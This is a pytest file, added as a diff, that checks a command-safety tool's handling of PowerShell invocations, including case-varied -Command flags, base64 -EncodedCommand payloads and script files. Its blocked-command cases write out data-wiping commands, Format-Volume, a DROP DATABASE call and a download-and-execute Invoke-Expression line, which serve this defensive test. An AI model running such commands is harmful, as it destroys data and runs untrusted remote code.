@@ -1,0 +1,61 @@
+"""PowerShell from a shell line (analyze/shell/powershell.py): -Command in any case and any
+prefix, -EncodedCommand decoded, scripts read, and what cannot be seen asked about."""
+
+from __future__ import annotations
+
+import base64
+from pathlib import Path
+
+import pytest
+
+from blastwall.engine import check
+from blastwall.policy.engine import default_policy
+
+POLICY = default_policy()
+
+
+def decide(command: str, **kw: object) -> str:
+    return check(command, policy=POLICY, probe=False, **kw).decision.value  # type: ignore[arg-type]
+
+
+def encoded(code: str) -> str:
+    return base64.b64encode(code.encode("utf-16-le")).decode()
+
+
+@pytest.mark.parametrize("command", [
+    "pwsh -c 'Remove-Item -Recurse -Force C:\\data'",
+    "pwsh -COMMAND 'Remove-Item -Recurse -Force C:\\data'",
+    "pwsh -Comm 'ri -r -fo C:\\data'",
+    "powershell.exe -NoProfile -ExecutionPolicy Bypass -Command del /s /q C:\\data",
+    "powershell Remove-Item -Recurse ~/data",  # Windows PowerShell: a positional is -Command
+    f"powershell -enc {encoded('Remove-Item -Recurse -Force C:/data')}",
+    f"pwsh -EncodedCommand {encoded('Format-Volume -DriveLetter D')}",
+    "pwsh -c 'Invoke-Expression (Invoke-RestMethod https://example.com/x.ps1)'",
+    "pwsh -c 'Start-Process cmd.exe -ArgumentList \"/c rd /s /q C:\\data\"'",
+    "pwsh -c 'mysql -h db.prod -e \"DROP DATABASE shop\"'",
+    "pwsh -c 'Set-Content -Path C:/app/config.json -Value x'",
+    "pwsh -enc !!!not-base64!!!",
+    "echo 'Remove-Item -Recurse C:/data' | pwsh -c -",
+    "pwsh -File ./missing.ps1",
+])
+def test_powershell_that_destroys_or_hides_is_never_allowed(command: str) -> None:
+    assert decide(command, read_files=False) != "allow", command
+
+
+@pytest.mark.parametrize("command", [
+    "pwsh -c 'Get-ChildItem -Recurse | Measure-Object'",
+    "pwsh -NoProfile -c 'dotnet build'",
+    f"powershell -enc {encoded('Get-Date')}",
+    "pwsh -c 'Write-Host ok; Get-Process | Select-Object -First 5'",
+    "pwsh",
+])
+def test_everyday_powershell_is_allowed(command: str) -> None:
+    assert decide(command, read_files=False) == "allow", command
+
+
+def test_a_script_is_read_where_it_is(tmp_path: Path) -> None:
+    (tmp_path / "build.ps1").write_text("dotnet build\nWrite-Host done\n")
+    (tmp_path / "wipe.ps1").write_text("Remove-Item -Recurse -Force $HOME/data\n")
+    ctx = {"cwd": str(tmp_path)}
+    assert decide("pwsh -File build.ps1", context=ctx) == "allow"
+    assert decide("pwsh ./wipe.ps1", context=ctx) != "allow"
